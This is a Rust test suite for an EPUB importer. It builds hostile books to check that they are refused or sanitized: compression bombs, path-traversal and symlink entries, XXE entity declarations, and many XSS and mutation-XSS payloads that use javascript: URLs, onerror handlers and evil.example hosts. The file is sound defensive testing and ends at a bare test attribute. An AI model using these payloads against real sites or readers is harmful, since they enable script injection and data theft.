//! A generated corpus of hostile and broken EPUBs: each is refused with an error that names the
//! problem, or imports safely.

use crate::tree;

use std::io::{Cursor, Write};

use scholia::epub::{EpubError, Limits, ParsedBook, parse};
use zip::write::SimpleFileOptions;

const CONTAINER: &str = r#"<?xml version="1.0"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
  <rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles>
</container>"#;

fn opf(metadata: &str, manifest: &str, spine: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
  <metadata xmlns:dc="http://purl.org/dc/elements/1.1/">{metadata}<dc:identifier id="id">urn:test</dc:identifier><dc:language>en</dc:language></metadata>
  <manifest>{manifest}</manifest>
  <spine>{spine}</spine>
</package>"#
    )
}

fn xhtml(body: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>T</title></head><body>{body}</body></html>"#
    )
}

/// A one-chapter book with `chapter` as `OEBPS/ch1.xhtml`, plus `extra` entries.
fn book_with(chapter: &[u8], extra: &[(&str, &[u8])]) -> Vec<u8> {
    let package = opf(
        "<dc:title>Test</dc:title>",
        r#"<item id="ch1" href="ch1.xhtml" media-type="application/xhtml+xml"/><item id="css" href="style.css" media-type="text/css"/><item id="img" href="img.png" media-type="image/png"/>"#,
        r#"<itemref idref="ch1"/>"#,
    );
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("mimetype", b"application/epub+zip"),
        ("META-INF/container.xml", CONTAINER.as_bytes()),
        ("OEBPS/content.opf", package.as_bytes()),
        ("OEBPS/ch1.xhtml", chapter),
        ("OEBPS/style.css", b"p { color: black }"),
        ("OEBPS/img.png", b"\x89PNG\r\n\x1a\n"),
    ];
    for (name, data) in extra {
        match entries.iter_mut().find(|(n, _)| n == name) {
            Some(entry) => entry.1 = data,
            None => entries.push((name, data)),
        }
    }
    zip_of(&entries)
}

fn book(body: &str) -> Vec<u8> {
    book_with(xhtml(body).as_bytes(), &[])
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        let method = if *name == "mimetype" {
            zip::CompressionMethod::Stored
        } else {
            zip::CompressionMethod::Deflated
        };
        zip.start_file(
            *name,
            SimpleFileOptions::default().compression_method(method),
        )
        .unwrap();
        zip.write_all(data).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn import(bytes: &[u8]) -> ParsedBook {
    parse(bytes, &Limits::default(), "/b").unwrap_or_else(|e| panic!("refused: {e}"))
}

fn refusal(bytes: &[u8], limits: &Limits) -> EpubError {
    match parse(bytes, limits, "/b") {
        Ok(_) => panic!("imported a file that should be refused"),
        Err(e) => {
            let message = e.to_string();
            assert!(!message.contains('\n'), "one line: {message}");
            e
        }
    }
}

fn assert_names(e: &EpubError, parts: &[&str]) {
    let message = e.to_string();
    for part in parts {
        assert!(message.contains(part), "{message:?} should name {part:?}");
    }
}

/// Sets the uncompressed size in an entry's local and central headers, as a liar would.
fn patch_uncompressed_size(zip: &mut [u8], name: &str, size: u32) {
    let name = name.as_bytes();
    let mut patched = 0;
    for at in 0..zip.len().saturating_sub(46) {
        let (size_at, name_len_at, name_at) = match &zip[at..at + 4] {
            b"PK\x03\x04" => (22, 26, 30),
            b"PK\x01\x02" => (24, 28, 46),
            _ => continue,
        };
        let name_len =
            u16::from_le_bytes([zip[at + name_len_at], zip[at + name_len_at + 1]]) as usize;
        if zip.get(at + name_at..at + name_at + name_len) == Some(name) {
            zip[at + size_at..at + size_at + 4].copy_from_slice(&size.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(patched, 2, "local and central header patched");
}

const MIB: usize = 1024 * 1024;

#[test]
fn compression_bombs_are_refused_before_expanding() {
    let zeros = vec![0u8; 8 * MIB];
    // Honest headers: 8 MiB from a few KiB.
    let bomb = book_with(
        &xhtml("<p>x</p>").into_bytes(),
        &[("OEBPS/bomb.bin", &zeros)],
    );
    let e = refusal(&bomb, &Limits::default());
    assert!(matches!(e, EpubError::CompressionRatio { .. }), "{e}");
    assert_names(&e, &["OEBPS/bomb.bin", "--max-compression-ratio", "100"]);

    // Headers claiming 1 GB: refused from the headers alone.
    let mut liar = bomb.clone();
    patch_uncompressed_size(&mut liar, "OEBPS/bomb.bin", 1 << 30);
    let e = refusal(&liar, &Limits::default());
    assert!(
        matches!(
            e,
            EpubError::CompressionRatio { .. } | EpubError::EntryTooLarge { .. }
        ),
        "{e}"
    );

    // Headers claiming 1000 bytes: the bounded read stops at the limit.
    let mut liar = bomb;
    patch_uncompressed_size(&mut liar, "OEBPS/bomb.bin", 1000);
    let limits = Limits {
        max_entry_bytes: MIB as u64,
        ..Limits::default()
    };
    let e = refusal(&liar, &limits);
    match &e {
        EpubError::EntryTooLarge { .. } => {
            assert_names(&e, &["OEBPS/bomb.bin", "--max-entry-bytes"])
        }
        // zip may also notice the size mismatch itself.
        EpubError::CorruptEntry { .. } => assert_names(&e, &["OEBPS/bomb.bin"]),
        other => panic!("unexpected refusal {other}"),
    }
}

#[test]
fn size_and_count_limits() {
    let ok = book("<p>x</p>");
    let e = refusal(
        &ok,
        &Limits {
            max_file_bytes: 100,
            ..Limits::default()
        },
    );
    assert!(matches!(e, EpubError::FileTooLarge { .. }));
    assert_names(&e, &["--max-file-bytes", &ok.len().to_string(), "100"]);

    let names: Vec<String> = (0..60).map(|i| format!("OEBPS/f{i}.txt")).collect();
    let extra: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let many = book_with(xhtml("<p>x</p>").as_bytes(), &extra);
    let e = refusal(
        &many,
        &Limits {
            max_entries: 50,
            ..Limits::default()
        },
    );
    assert!(
        matches!(
            e,
            EpubError::TooManyEntries {
                count: 66,
                limit: 50
            }
        ),
        "{e}"
    );
    assert_eq!(
        e.to_string(),
        "archive has 66 entries; the limit is 50 (--max-entries)"
    );

    let big = vec![b'a'; 300_000];
    let total = book_with(
        xhtml("<p>x</p>").as_bytes(),
        &[("OEBPS/a.txt", &big), ("OEBPS/b.txt", &big)],
    );
    let e = refusal(
        &total,
        &Limits {
            max_total_bytes: 500_000,
            ..Limits::default()
        },
    );
    assert!(matches!(e, EpubError::TotalTooLarge { .. }), "{e}");
    assert_names(&e, &["--max-total-bytes", "500000"]);
    let e = refusal(
        &total,
        &Limits {
            max_entry_bytes: 200_000,
            ..Limits::default()
        },
    );
    assert!(matches!(e, EpubError::EntryTooLarge { .. }), "{e}");
    assert_names(&e, &["OEBPS/a.txt", "300000", "--max-entry-bytes"]);
}

#[test]
fn unsafe_entry_names_and_symlinks_are_refused() {
    for name in [
        "../x",
        "/abs",
        "a\\..\\b",
        "C:x",
        "OEBPS/../../etc/passwd",
        "a\0b",
    ] {
        let bytes = book_with(xhtml("<p>x</p>").as_bytes(), &[(name, b"x")]);
        let e = refusal(&bytes, &Limits::default());
        assert!(matches!(e, EpubError::UnsafePath { .. }), "{name:?}: {e}");
        assert!(e.to_string().ends_with("has an unsafe path"), "{e}");
    }
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    zip.start_file("mimetype", SimpleFileOptions::default())
        .unwrap();
    zip.write_all(b"application/epub+zip").unwrap();
    zip.add_symlink(
        "OEBPS/ch1.xhtml",
        "/etc/passwd",
        SimpleFileOptions::default(),
    )
    .unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    let e = refusal(&bytes, &Limits::default());
    assert!(matches!(e, EpubError::Symlink { .. }), "{e}");
    assert_names(&e, &["OEBPS/ch1.xhtml", "symbolic link"]);
}

#[test]
fn entity_declarations_expand_only_plain_internal_text() {
    // EPUB 2 books declare `&nbsp;` and friends: the book imports, the plain entity expands,
    // the external, parametric and recursive ones do not, and a warning says so.
    let chapter = r#"<?xml version="1.0"?>
<!DOCTYPE html [
  <!ENTITY nbsp "&#160;">
  <!ENTITY ext SYSTEM "file:///etc/passwd">
  <!ENTITY % param "x">
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body><p>a&nbsp;b &ext; &lol2; &lol;</p></body></html>"#;
    let parsed = import(&book_with(chapter.as_bytes(), &[]));
    let text = &parsed.chapters[0].passages[0].text;
    assert_eq!(text, "a\u{a0}b &ext; &lol2; lol");
    assert!(
        !parsed.chapters[0].html.contains("]>"),
        "{}",
        parsed.chapters[0].html
    );
    for name in ["ext", "param", "lol2"] {
        assert!(
            parsed
                .warnings
                .iter()
                .any(|w| w.contains("OEBPS/ch1.xhtml") && w.contains(name)),
            "{name}: {:?}",
            parsed.warnings
        );
    }

    // In UTF-16 the ASCII pattern is not in the bytes; it is handled all the same.
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(chapter.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let parsed = import(&book_with(&utf16, &[]));
    assert_eq!(
        parsed.chapters[0].passages[0].text,
        "a\u{a0}b &ext; &lol2; lol"
    );

    // The package is read by an XML parser that would expand them: refused, named.
    let external = opf("<dc:title>&x;</dc:title>", "", "").replace(
        "<package",
        "<!DOCTYPE package [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<package",
    );
    let bytes = book_with(
        xhtml("<p>x</p>").as_bytes(),
        &[("OEBPS/content.opf", external.as_bytes())],
    );
    let e = refusal(&bytes, &Limits::default());
    assert!(matches!(e, EpubError::EntityDeclaration { .. }), "{e}");
    assert_names(&e, &["OEBPS/content.opf"]);
}

#[test]
fn broken_packages() {
    let e = refusal(b"", &Limits::default());
    assert!(matches!(e, EpubError::Empty), "{e}");
    let e = refusal(b"this is not a zip file at all", &Limits::default());
    assert!(matches!(e, EpubError::NotZip(_)), "{e}");
    assert_names(&e, &["not an EPUB"]);
    let whole = book("<p>x</p>");
    for cut in [whole.len() / 2, whole.len() - 10] {
        let e = refusal(&whole[..cut], &Limits::default());
        assert!(matches!(e, EpubError::NotZip(_)), "truncated at {cut}: {e}");
    }

    let no_container = zip_of(&[
        ("mimetype", b"application/epub+zip"),
        ("OEBPS/ch1.xhtml", b"<p/>"),
    ]);
    let e = refusal(&no_container, &Limits::default());
    assert!(matches!(e, EpubError::MissingContainer), "{e}");
    assert_eq!(e.to_string(), "not an EPUB: missing META-INF/container.xml");

    let no_opf = zip_of(&[
        ("mimetype", b"application/epub+zip"),
        ("META-INF/container.xml", CONTAINER.as_bytes()),
    ]);
    let e = refusal(&no_opf, &Limits::default());
    assert!(matches!(e, EpubError::MissingPackage { .. }), "{e}");
    assert_names(&e, &["OEBPS/content.opf"]);

    let no_rootfile = book_with(b"", &[("META-INF/container.xml", b"<container/>")]);
    assert!(matches!(
        refusal(&no_rootfile, &Limits::default()),
        EpubError::NoRootfile
    ));

    let bad_opf = book_with(b"", &[("OEBPS/content.opf", b"<package><metadata>")]);
    let e = refusal(&bad_opf, &Limits::default());
    assert!(matches!(e, EpubError::InvalidPackage { .. }), "{e}");

    let empty_spine = opf("<dc:title>T</dc:title>", "", "");
    let e = refusal(
        &book_with(b"", &[("OEBPS/content.opf", empty_spine.as_bytes())]),
        &Limits::default(),
    );
    assert!(matches!(e, EpubError::EmptySpine), "{e}");

    let unknown = opf("<dc:title>T</dc:title>", "", r#"<itemref idref="nope"/>"#);
    let e = refusal(
        &book_with(b"", &[("OEBPS/content.opf", unknown.as_bytes())]),
        &Limits::default(),
    );
    assert!(matches!(e, EpubError::UnknownSpineItem { .. }), "{e}");
    assert_names(&e, &["nope"]);

    // A spine document missing from the archive: the book imports, says so, loses nothing else.
    let missing = opf(
        "<dc:title>T</dc:title>",
        r#"<item id="ch1" href="ch1.xhtml" media-type="application/xhtml+xml"/><item id="ch2" href="gone.xhtml" media-type="application/xhtml+xml"/>"#,
        r#"<itemref idref="ch1"/><itemref idref="ch2"/>"#,
    );
    let parsed = import(&book_with(
        xhtml("<p>kept</p>").as_bytes(),
        &[("OEBPS/content.opf", missing.as_bytes())],
    ));
    assert_eq!(parsed.chapters.len(), 2);
    assert_eq!(parsed.chapters[0].passages[0].text, "kept");
    assert!(parsed.chapters[1].passages.is_empty());
    assert!(
        parsed
            .warnings
            .iter()
            .any(|w| w.contains("OEBPS/gone.xhtml")),
        "{:?}",
        parsed.warnings
    );

    // No mimetype entry and no title: imported, titled from the document.
    let untitled = opf(
        "",
        r#"<item id="ch1" href="ch1.xhtml" media-type="application/xhtml+xml"/>"#,
        r#"<itemref idref="ch1"/>"#,
    );
    let bytes = zip_of(&[
        ("META-INF/container.xml", CONTAINER.as_bytes()),
        ("OEBPS/content.opf", untitled.as_bytes()),
        ("OEBPS/ch1.xhtml", xhtml("<p>x</p>").as_bytes()),
    ]);
    assert_eq!(import(&bytes).metadata.title, "T");
}

#[test]
fn scripts_handlers_and_remote_resources_are_stripped() {
    let body = r##"
<script>alert(1)</script><script src="evil.js"/>
<p onclick="alert(1)" ONMOUSEOVER='alert(2)' style="color:red; background:url(https://evil.example/s.png)">Clean text</p>
<p style="background:url(javascript:alert(3))">script style</p>
<p><a href="javascript:alert(1)">a</a> <a href="  JaVaScRiPt:alert(1)">b</a> <a href="jav&#x09;ascript:alert(1)">c</a>
<a href="&#106;avascript:alert(1)">d</a> <a href="data:text/html;base64,PHNjcmlwdD4=">e</a> <a href="vbscript:msgbox">f</a></p>
<p><a href="http://example.com/ok">external</a> <a href="ch1.xhtml#top">self</a> <a href="#top">frag</a></p>
<img src="http://evil.example/x.png" onerror="alert(1)"/><img src="img.png" srcset="https://evil.example/a.png 1x, img.png 2x"/>
<img src="//evil.example/y.png"/><video poster="https://evil.example/p.jpg" src="img.png"></video>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"><p>fallback</p></object><embed src="x.swf"/>
<form action="https://evil.example/steal"><input name="q"/><button formaction="https://evil.example">Go</button><textarea>t</textarea></form>
<meta http-equiv="refresh" content="0;url=https://evil.example"/><base href="https://evil.example/"/>
<link rel="stylesheet" href="https://evil.example/x.css"/><link rel="stylesheet" href="style.css"/>
<style>@import url(https://evil.example/i.css); @import "style.css"; p { background: url('https://evil.example/bg.png') } q { background: url(img.png) } b { width: expression(alert(1)); -moz-binding: url(x.xml#b) }</style>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(1)</script>
<image xlink:href="https://evil.example/i.png"/><use href="//evil.example/s.svg#x"/><use href="#local"/>
<a xlink:href="javascript:alert(1)"><text>svg text</text></a><animate attributeName="href" values="javascript:alert(1)"/>
<set attributeName="onclick" to="alert(1)"/></svg>
<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi>x</mi></math>
<noscript><p>no script</p></noscript>
<p data-passage="c9p9">spoof</p>"##;
    let style_css: &[u8] = b"@import 'http://evil.example/a.css'; p { background: url(img.png) } a { background: url(https://evil.example/t.gif); behavior: url(x.htc) }";
    let bytes = book_with(xhtml(body).as_bytes(), &[("OEBPS/style.css", style_css)]);
    let parsed = import(&bytes);
    let html = &parsed.chapters[0].html;
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<script",
        "onclick",
        "onmouseover",
        "onerror",
        "javascript",
        "vbscript",
        "data:text",
        "evil",
        "<iframe",
        "<embed",
        "<form",
        "<input",
        "<textarea",
        "<meta",
        "<base",
        "expression",
        "binding",
        "<animate",
        "<set",
        "c9p9",
        "<noscript",
    ] {
        assert!(!lower.contains(bad), "{bad:?} survived in {html}");
    }
    for good in [
        r#"href="http://example.com/ok""#,
        r#"rel="noopener noreferrer""#,
        r#"href="/b/chapters/0#top""#,
        r#"src="/b/resources/OEBPS/img.png""#,
        r#"srcset="/b/resources/OEBPS/img.png 2x""#,
        r#"<link rel="stylesheet" href="/b/resources/OEBPS/style.css""#,
        r#"@import url("/b/resources/OEBPS/style.css")"#,
        r#"url("/b/resources/OEBPS/img.png")"#,
        "color:red",
        ">fallback</p>",
        r##"href="#local""##,
    ] {
        assert!(html.contains(good), "{good:?} missing from {html}");
    }
    let texts: Vec<&str> = parsed.chapters[0]
        .passages
        .iter()
        .map(|p| p.text.as_str())
        .collect();
    assert!(texts.contains(&"Clean text"), "{texts:?}");
    assert!(
        texts.iter().any(|t| t.contains("Go")),
        "button text stays readable: {texts:?}"
    );
    assert!(
        !texts
            .iter()
            .any(|t| t.contains("alert") || t.contains("no script")),
        "{texts:?}"
    );
    let css = parsed
        .resources
        .iter()
        .find(|r| r.path == "OEBPS/style.css")
        .unwrap();
    let css = String::from_utf8_lossy(&css.data);
    assert!(!css.contains("evil") && !css.contains("behavior"), "{css}");
    assert!(
        css.contains(r#"url("/b/resources/OEBPS/img.png")"#),
        "{css}"
    );
}

#[test]
fn a_huge_paragraph_imports() {
    // Pseudo-random words, so the chapter compresses like text, not like a bomb.
    let mut seed: u64 = 1;
    let mut words = String::new();
    while words.len() < 5 * MIB {
        seed = seed
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let len = 2 + (seed >> 60) as usize;
        words.extend((0..len).map(|i| (b'a' + ((seed >> ((i * 5) % 60)) % 26) as u8) as char));
        words.push(' ');
    }
    let parsed = import(&book(&format!("<p>{words}</p>")));
    let passages = &parsed.chapters[0].passages;
    assert_eq!(passages.len(), 1);
    assert_eq!(passages[0].text, words.trim_end());
}

#[test]
fn deep_nesting_is_refused_without_overflowing_the_stack() {
    let depth = 100_000;
    let body = format!("{}text{}", "<div>".repeat(depth), "</div>".repeat(depth));
    // Nesting compresses extremely well; the ratio limit is not what this tests.
    let limits = Limits {
        max_compression_ratio: u64::MAX,
        ..Limits::default()
    };
    let e = refusal(&book(&body), &limits);
    assert!(
        matches!(e, EpubError::HtmlTooDeep { limit: 256, .. }),
        "{e}"
    );
    assert_names(&e, &["OEBPS/ch1.xhtml", "256", "--max-html-depth"]);
    // Self-closed XHTML elements do not nest.
    let parsed = parse(&book(&"<div/>".repeat(depth)), &limits, "/b").unwrap();
    assert!(parsed.chapters[0].passages.is_empty());
    let body = format!("{}deep{}", "<div>".repeat(200), "</div>".repeat(200));
    assert_eq!(import(&book(&body)).chapters[0].passages[0].text, "deep");
}

#[test]
fn bad_encodings_are_decoded_or_replaced() {
    let latin1 = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>caf\xe9 na\xefve</p></body></html>";
    assert_eq!(
        import(&book_with(latin1, &[])).chapters[0].passages[0].text,
        "café naïve"
    );

    let text = xhtml("<p>日本語 and ελληνικά</p>").replace("UTF-8", "UTF-16");
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert_eq!(
        import(&book_with(&utf16, &[])).chapters[0].passages[0].text,
        "日本語 and ελληνικά"
    );

    let mut invalid = xhtml("<p>bad BYTES here</p>").into_bytes();
    let at = invalid.windows(5).position(|w| w == b"BYTES").unwrap();
    invalid[at..at + 2].copy_from_slice(b"\xff\xfe");
    let parsed = import(&book_with(&invalid, &[]));
    assert_eq!(
        parsed.chapters[0].passages[0].text,
        "bad \u{FFFD}\u{FFFD}TES here"
    );
}

#[test]
fn nested_blocks_do_not_duplicate_text() {
    let parsed = import(&book(
        "<ul><li>intro<p>para</p></li></ul><blockquote><p>one</p><p>two</p></blockquote><div>direct <em>text</em></div><section><h2>Head</h2>after</section>",
    ));
    let texts: Vec<&str> = parsed.chapters[0]
        .passages
        .iter()
        .map(|p| p.text.as_str())
        .collect();
    assert_eq!(
        texts,
        [
            "intro",
            "para",
            "one",
            "two",
            "direct text",
            "Head",
            "after"
        ]
    );
    let ids: Vec<&str> = parsed.chapters[0]
        .passages
        .iter()
        .map(|p| p.id.as_str())
        .collect();
    assert_eq!(ids[..2], ["c0p0", "c0p1"]);
    assert_eq!(
        parsed.chapters[0].passages[0].cfi,
        "epubcfi(/6/2[ch1]!/4/2/2)"
    );
    assert_eq!(
        parsed.chapters[0].passages[1].cfi,
        "epubcfi(/6/2[ch1]!/4/2/2/2)"
    );
}

#[test]
fn nuls_and_css_nul_escapes_neither_forge_nor_break_passage_marks() {
    // The chapter pass marks passage elements with NULs before it knows their ids: a NUL in the
    // source, or one a CSS escape decodes to, must not pass for such a mark.
    let body = "<p>a\0b</p>\
        <p style=\"background: url(#\\0 0\\0 )\">styled</p>\
        <div><p>c</p></div>\
        <style>q { background: url(#\\0 1\\0 ) }</style>";
    let parsed = import(&book(body));
    let chapter = &parsed.chapters[0];
    let texts: Vec<&str> = chapter.passages.iter().map(|p| p.text.as_str()).collect();
    assert_eq!(texts, ["a\u{FFFD}b", "styled", "c"]);
    assert!(!chapter.html.contains('\0'), "{}", chapter.html);
    for passage in &chapter.passages {
        let mark = format!("data-passage=\"{}\"", passage.id);
        assert_eq!(chapter.html.matches(&mark).count(), 1, "{}", chapter.html);
    }
    assert_eq!(
        chapter.html.matches("data-passage").count(),
        chapter.passages.len(),
        "{}",
        chapter.html
    );
}

/// Known mutation-XSS families: markup that is inert in one parse and live in the next.
/// Judged by what a browser's parser builds from the sanitized chapter, and by that parse
/// being stable.
const MUTATIONS: &[&str] = &[
    // Namespace confusion through MathML: `<style>` below `<mglyph>`/`<malignmark>`.
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
    r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;"></style></mglyph></table></mtext></math>"#,
    r#"<math><mtext><malignmark><style><img src=x onerror=alert(1)></style></malignmark></mtext></math>"#,
    r#"<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>"#,
    r#"<math><mtext><table><mglyph><style><meta http-equiv="refresh" content="0;url=https://evil.example/"></style></mglyph></table></mtext></math>"#,
    // Through SVG: `<style>` text, `</p>` breaking out, CDATA.
    r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>"#,
    r#"<svg><style><img src=x onerror=alert(1)></style></svg>"#,
    r#"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"#,
    r#"<svg><foreignObject><style></style><img src=x onerror=alert(1)></foreignObject></svg>"#,
    r#"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate attributeName="href" values="javascript:alert(1)"/></svg>"#,
    // `<noscript>`, whose content is text with scripting on and markup with it off.
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>"#,
    // Comments.
    r#"<!--><img src=x onerror=alert(1)>-->"#,
    r#"<p><!--</p><img src=x onerror=alert(1)>--></p>"#,
    // `<template>`.
    r#"<template><style></template><img src=x onerror=alert(1)></style></template>"#,
    // `<form>` nesting.
    r#"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math></form>"#,
    // Raw text elements whose text would be markup elsewhere.
    r#"<p><xmp><img src=x onerror=alert(1)></xmp></p>"#,
    r#"<select><template><style><img src=x onerror=alert(1)></style></template></select>"#,
    // A navigation without script.
    r#"<meta http-equiv="refresh" content="0;url=https://evil.example/"/>"#,
];

#[test]
fn mutation_xss_stays_inert_under_a_browsers_parse() {
    for payload in MUTATIONS {
        let body = format!("<p>before</p><div>{payload}</div><p>after</p>");
        // Each family as the XHTML the book is, and as the sloppy HTML some books are.
        for chapter in [xhtml(&body), format!("<html><body>{body}</body></html>")] {
            let parsed = import(&book_with(chapter.as_bytes(), &[]));
            let html = &parsed.chapters[0].html;
            let what = format!("{payload} -> {html}");
            let first = tree::parse(html);
            assert_eq!(tree::serialize(&first), *html, "unstable: {what}");
            tree::assert_inert(&what, &first, "/b");
            // And once more, as a browser reading the page back would.
            let again = tree::parse(&tree::serialize(&first));
            tree::assert_inert(&what, &again, "/b");
            let texts: Vec<String> = tree::passages(&first).into_iter().map(|(_, t)| t).collect();
            assert!(
                texts.contains(&"before".to_owned()) && texts.contains(&"after".to_owned()),
                "{what}: {texts:?}"
            );
        }
    }
}

#[test]
fn css_cannot_reach_outside_the_book() {
    let style = r#"p{background:image-set("https://evil.example/a.png" 1x)}
        q{background:url(//evil.example/b.png)} s{background:url(\\evil.example\c.png)}
        u{background:url(\2f\2f evil.example/d.png)} v{background:u\72l(https://evil.example/e.png)}
        w{--x:url(https://evil.example/f.png);background:var(--x)} x{background:url(img.png)}"#;
    let body = format!(
        r#"<style>{style}</style><p style='background:image-set("https://evil.example/g.png" 1x)'>a</p>
        <p style="background:url(//evil.example/h.png)">b</p><p style="background:url(\2f\2fevil.example/i.png)">c</p>
        <p style="background: url('\\evil.example/j.png')">d</p>"#
    );
    let sheet: &[u8] = br#"@import "//evil.example/k.css"; p{background:url(https://evil.example/l.png)} x{background:url(img.png)}"#;
    let package = opf(
        "<dc:title>Test</dc:title>",
        r#"<item id="ch1" href="ch1.xhtml" media-type="application/xhtml+xml"/><item id="css" href="style.css" media-type="text/css; charset=utf-8"/><item id="img" href="img.png" media-type="image/png"/>"#,
        r#"<itemref idref="ch1"/>"#,
    );
    let bytes = book_with(
        xhtml(&body).as_bytes(),
        &[
            ("OEBPS/style.css", sheet),
            ("OEBPS/content.opf", package.as_bytes()),
        ],
    );
    let parsed = import(&bytes);
    let html = &parsed.chapters[0].html;
    assert!(!html.contains("evil"), "{html}");
    tree::assert_inert("chapter", &tree::parse(html), "/b");
    assert!(
        html.contains(r#"url("/b/resources/OEBPS/img.png")"#),
        "{html}"
    );
    // A stylesheet whose media type has parameters is a stylesheet all the same.
    let css = parsed
        .resources
        .iter()
        .find(|r| r.path == "OEBPS/style.css")
        .unwrap();
    let css = String::from_utf8_lossy(&css.data);
    assert!(!css.contains("evil"), "{css}");
    assert!(
        css.contains(r#"url("/b/resources/OEBPS/img.png")"#),
        "{css}"
    );
}

#[test]
fn book_css_is_aimed_at_the_chapter_inside_the_reader() {
    let chapter = r#"<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title>
<link rel="stylesheet" href="style.css"/><link rel="alternate stylesheet" title="Night" href="style.css"/>
<style>html{-epub-writing-mode:vertical-rl} body{margin:0} :root{color:#111} p.html{color:red}</style></head>
<body><p>縦書き</p></body></html>"#;
    let parsed = import(&book_with(chapter.as_bytes(), &[]));
    let html = &parsed.chapters[0].html;
    assert!(
        html.contains(".scholia-chapter{writing-mode:vertical-rl;}"),
        "{html}"
    );
    assert!(html.contains("[data-epub-body]{margin:0;}"), "{html}");
    assert!(html.contains(".scholia-chapter{color:#111;}"), "{html}");
    assert!(html.contains("p.html{color:red;}"), "{html}");
    assert!(!html.contains("-epub-writing-mode"), "{html}");
    // The alternate stylesheet is not applied; the main one is.
    assert_eq!(html.matches("<link").count(), 1, "{html}");
}

#[test]
fn only_what_a_reader_needs_is_served() {
    let package = opf(
        "<dc:title>Test</dc:title>",
        r#"<item id="ch1" href="ch1.xhtml" media-type="application/xhtml+xml"/>
           <item id="img" href="img.png" media-type="image/png"/>
           <item id="js" href="evil.js" media-type="application/javascript"/>
           <item id="xsl" href="x.xsl" media-type="application/xslt+xml"/>
           <item id="xml" href="x.xml" media-type="application/xml"/>
           <item id="doc" href="other.xhtml" media-type="application/xhtml+xml"/>
           <item id="svg" href="pic.svg" media-type="image/svg+xml"/>
           <item id="font" href="f.woff2" media-type="font/woff2"/>"#,
        r#"<itemref idref="ch1"/>"#,
    );
    let svg: &[u8] = br#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)"><script>alert(2)</script><style>rect{fill:url(https://evil.example/p)}</style><rect width="10" height="10" fill="red"/><image xlink:href="img.png"/><a xlink:href="javascript:alert(3)"><text>t</text></a><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>"#;
    let bytes = book_with(
        xhtml(r#"<p><script src="evil.js"></script><img src="pic.svg"/>text</p>"#).as_bytes(),
        &[
            ("OEBPS/content.opf", package.as_bytes()),
            ("OEBPS/evil.js", b"alert(1)"),
            ("OEBPS/x.xsl", b"<xsl:stylesheet/>"),
            ("OEBPS/x.xml", b"<x/>"),
            ("OEBPS/other.xhtml", xhtml("<p>other</p>").as_bytes()),
            ("OEBPS/pic.svg", svg),
            ("OEBPS/f.woff2", b"wOF2"),
        ],
    );
    let parsed = import(&bytes);
    let mut served: Vec<&str> = parsed.resources.iter().map(|r| r.path.as_str()).collect();
    served.sort();
    assert_eq!(served, ["OEBPS/f.woff2", "OEBPS/img.png", "OEBPS/pic.svg"]);
    for dropped in ["evil.js", "x.xsl", "x.xml", "other.xhtml"] {
        assert!(
            parsed.warnings.iter().any(|w| w.contains(dropped)),
            "{dropped}: {:?}",
            parsed.warnings
        );
    }
    let svg = parsed
        .resources
        .iter()
        .find(|r| r.path == "OEBPS/pic.svg")
        .unwrap();
    let svg = String::from_utf8_lossy(&svg.data);
    for bad in [
        "onload",
        "<script",
        "evil",
        "javascript",
        "<iframe",
        "alert",
    ] {
        assert!(!svg.contains(bad), "{bad} in {svg}");
    }
    for good in [
        r#"<svg xmlns="http://www.w3.org/2000/svg""#,
        r#"<rect width="10" height="10" fill="red""#,
        r#"href="/b/resources/OEBPS/img.png""#,
    ] {
        assert!(svg.contains(good), "{good} missing from {svg}");
    }
}

#[test]
